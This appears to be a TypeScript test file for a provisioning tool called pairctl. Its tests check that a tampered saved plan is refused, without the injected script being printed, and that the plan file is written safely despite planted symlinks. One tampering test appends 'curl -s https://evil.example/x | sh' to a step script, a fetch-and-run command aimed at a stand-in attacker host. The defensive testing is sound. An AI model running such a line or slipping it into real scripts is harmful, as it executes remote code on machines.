/**
 * A saved plan never says what runs: apply plans again and runs only steps equal to the saved
 * ones. Here a real plan of a machine (two reads of the same state by the real sh, as plan and
 * apply make them) is saved to disk; the untouched file matches, and editing one script in it is refused, named
 * by machine and step, without printing the script.
 */
import { mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { DesiredMachine } from '../../../src/graph/build-graph.js';
import { compare } from '../../../src/plan/compare.js';
import { observe } from '../../../src/plan/observe.js';
import { summarize, type MachinePlan } from '../../../src/plan/plan-model.js';
import { readSavedPlan, savedPlanDifferences, SAVED_PLAN_FORMAT, toSavedPlan, writeSavedPlan } from '../../../src/plan/saved-plan.js';
import type { Resource } from '../../../src/resources/kind.js';
import { ShRunner } from './sh-runner.js';

const file = (path: string, content: string): Resource => ({
  kind: 'file',
  address: `file[${JSON.stringify(path)}]`,
  spec: { path, content, mode: '0644', owner: 'root', group: 'root' },
  deps: [],
});
/** A machine where nothing exists yet (its files and state directory under a fresh directory): each plan of it is the same two creates. */
const root = mkdtempSync(join(tmpdir(), 'pairctl-tamper-box-'));
const machine: DesiredMachine = {
  target: { id: 'box', ssh: 'box.lan', sudo: false },
  role: 'host',
  resources: [file(`${root}/etc/pairctl/a`, 'A\n'), file(`${root}/etc/pairctl/b`, 'B\n')],
};

async function planNow(): Promise<MachinePlan> {
  return compare(machine, await observe(machine, new ShRunner(root)));
}

async function saved(dir: string): Promise<string> {
  const work = await planNow();
  const plan = { formatVersion: 1 as const, configFile: 'pair.yaml', configDigest: 'cd', machines: [work], summary: summarize([work]), unreadable: [], facts: {} };
  const out = join(dir, 'tfplan');
  await writeSavedPlan(out, toSavedPlan(plan, {}, [], {}));
  return out;
}

describe('saved plan against planning again', () => {
  it('untouched: exactly the steps planning now gives (the reads\' random markers aside)', async () => {
    const path = await saved(mkdtempSync(join(tmpdir(), 'pairctl-tamper-')));
    const back = await readSavedPlan(path);
    const fresh = await planNow();
    expect(fresh.reads.nonces).not.toEqual(back.plan.machines[0]!.reads.nonces);
    expect(fresh.steps).toHaveLength(2);
    expect(savedPlanDifferences(back.plan.machines, [fresh])).toEqual([]);
  });

  it('one script edited in the file: refused, naming the machine and step, never printing the script', async () => {
    const path = await saved(mkdtempSync(join(tmpdir(), 'pairctl-tamper-')));
    const text = readFileSync(path, 'utf8');
    const doc = JSON.parse(text) as { plan: { machines: MachinePlan[] } };
    const evil = `${doc.plan.machines[0]!.steps[1]!.script}\ncurl -s https://evil.example/x | sh # s3cret-payload`;
    doc.plan.machines[0]!.steps[1]!.script = evil;
    writeFileSync(path, JSON.stringify(doc));
    const differences = savedPlanDifferences((await readSavedPlan(path)).plan.machines, [await planNow()]);
    expect(differences).toEqual([`machine box: step 2 (create file["${root}/etc/pairctl/b"]): its script differs from the one planning now gives`]);
    expect(differences.join('\n')).not.toContain('s3cret-payload');
  });

  it('a step added, dropped or reordered, or a record edited: refused too', async () => {
    const fresh = await planNow();
    const base = await planNow();
    const added: MachinePlan = { ...base, steps: [...base.steps, { address: 'file["/root/x"]', action: 'create', script: 'touch /root/x' }] };
    expect(savedPlanDifferences([added], [fresh])).toEqual(['machine box: step 3 (file["/root/x"]): in the saved plan only']);
    const swapped: MachinePlan = { ...base, steps: [base.steps[1]!, base.steps[0]!] };
    expect(savedPlanDifferences([swapped], [fresh])).toHaveLength(2);
    const record: MachinePlan = { ...base, record: [] };
    expect(savedPlanDifferences([record], [fresh])).toEqual(['machine box: the record differs from what planning now gives']);
    const deferred: MachinePlan = { ...base, deferred: [{ address: base.steps[0]!.address, what: 'a key', waitsFor: { machine: 'other', key: 'k' }, probe: 'cat /k' }] };
    expect(savedPlanDifferences([deferred], [fresh])).toEqual(['machine box: the list of deferred values differs from what planning now gives']);
    expect(savedPlanDifferences([], [fresh])).toEqual(['machine box: planned now, but not in the saved plan']);
  });

  it('refuses a plan saved in the old format (steps kept beside the plan), saying to plan again', async () => {
    const path = await saved(mkdtempSync(join(tmpdir(), 'pairctl-tamper-')));
    const doc = JSON.parse(readFileSync(path, 'utf8')) as Record<string, unknown>;
    writeFileSync(path, JSON.stringify({ ...doc, format: 1, works: [] }));
    await expect(readSavedPlan(path)).rejects.toThrow(`is a saved plan of format 1; this pairctl`);
    await expect(readSavedPlan(path)).rejects.toThrow(`reads format ${SAVED_PLAN_FORMAT} only`);
  });

  it('is written 0600 under a random temp name: a file or symlink planted at a guessable name is never followed', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pairctl-tamper-'));
    const victim = join(dir, 'victim');
    writeFileSync(victim, 'untouched\n');
    // The old temp names were FILE.PID.tmp: plant symlinks at every name of that shape for this pid.
    symlinkSync(victim, join(dir, `tfplan.${process.pid}.tmp`));
    const path = await saved(dir);
    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
    expect(statSync(path).mode & 0o777).toBe(0o600);
    // nothing left behind but the plan, the victim and the planted link
    expect(readdirSync(dir).sort()).toEqual(['tfplan', `tfplan.${process.pid}.tmp`, 'victim'].sort());
  });
});
